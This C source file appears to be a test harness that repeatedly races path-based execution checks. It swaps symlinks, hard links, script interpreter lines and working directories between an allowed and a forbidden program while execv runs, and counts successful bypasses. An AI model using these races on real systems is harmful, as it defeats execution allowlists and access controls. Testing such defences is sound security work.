// The same path, while somebody changes what lies at its end.
#include "attack.h"

#define TRIES 40

static const char *name = "moving", *first, *second;

static void replace_by_link(const char *target) {
    unlink("moving.next");
    if (symlink(target, "moving.next") == 0) rename("moving.next", name);
}

static pid_t flip_links(void) {
    pid_t other = fork();
    if (other != 0) return other;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    for (;;) {
        replace_by_link(second);
        linger(2000);
        replace_by_link(first);
        linger(2000);
    }
}

static void try_name(void *path) {
    char *argv[] = {"x", NULL};
    for (int i = 0; i < TRIES; i++) execv(path, argv);
}

static int race_links(int times) {
    int wins = 0;
    replace_by_link(first);
    pid_t other = flip_links();
    for (int i = 0; i < times; i++) wins += in_child(try_name, "./moving") == 1;
    kill(other, SIGKILL);
    waitpid(other, NULL, 0);
    return wins;
}

int link_swap(int times, char **arguments) {
    (void)arguments;
    first = GOOD;
    second = FORBIDDEN;
    return race_links(times);
}

// Two scripts that cannot be changed, and a link that can: the interpreter follows it once more.
int script_link_swap(int times, char **arguments) {
    first = arguments[0];
    second = arguments[1];
    return race_links(times);
}

static void write_script(const char *text) {
    int file = open("script", O_WRONLY | O_CREAT, 0755);
    if (file < 0) return;
    if (write(file, text, strlen(text)) < 0) perror("script");
    close(file);
}

// Where a directory is writable and executable: the interpreter's name in a script.
int script_rewrite(int times, char **arguments) {
    (void)arguments;
    int wins = 0;
    write_script("#!/usr/bin/true \n");
    pid_t other = fork();
    if (other == 0) {
        for (;;) {
            write_script("#!/usr/bin/false\n");
            linger(2000);
            write_script("#!/usr/bin/true \n");
            linger(2000);
        }
    }
    for (int i = 0; i < times; i++) wins += in_child(try_name, "./script") == 1;
    kill(other, SIGKILL);
    waitpid(other, NULL, 0);
    return wins;
}

static void copy(const char *from, const char *to) {
    char buffer[65536];
    int source = open(from, O_RDONLY), target = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    for (ssize_t got; (got = read(source, buffer, sizeof buffer)) > 0;)
        if (write(target, buffer, got) != got) perror(to);
    close(source);
    close(target);
}

// Where a directory is writable and executable: the program itself.
int program_rename(int times, char **arguments) {
    (void)arguments;
    int wins = 0;
    copy(GOOD, "good");
    copy(FORBIDDEN, "evil");
    link("good", name);
    pid_t other = fork();
    if (other == 0) {
        for (;;) {
            link("evil", "next");
            rename("next", name);
            linger(2000);
            link("good", "next");
            rename("next", name);
            linger(2000);
        }
    }
    for (int i = 0; i < times; i++) wins += in_child(try_name, "./moving") == 1;
    kill(other, SIGKILL);
    waitpid(other, NULL, 0);
    return wins;
}

static const char **directories;

static int change_directories(void *unused) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    for (;;) {
        if (chdir(directories[1]) < 0 || chdir(directories[0]) < 0) perror("chdir");
    }
    return unused != NULL;
}

static void try_relative(void *unused) {
    (void)unused;
    char *stack = malloc(65536), *argv[] = {"x", NULL};
    if (chdir(directories[0]) < 0) return;
    // It shares the working directory, and outlives the execve.
    if (clone(change_directories, stack + 65536, CLONE_FS | SIGCHLD, NULL) < 0) return;
    for (int i = 0; i < TRIES; i++) execv("./tool", argv);
}

// Two directories with a script of the same name, and a process that shares the caller's working directory.
int directory_swap(int times, char **arguments) {
    int wins = 0;
    directories = (const char **)arguments;
    for (int i = 0; i < times; i++) wins += in_child(try_relative, NULL) == 1;
    return wins;
}
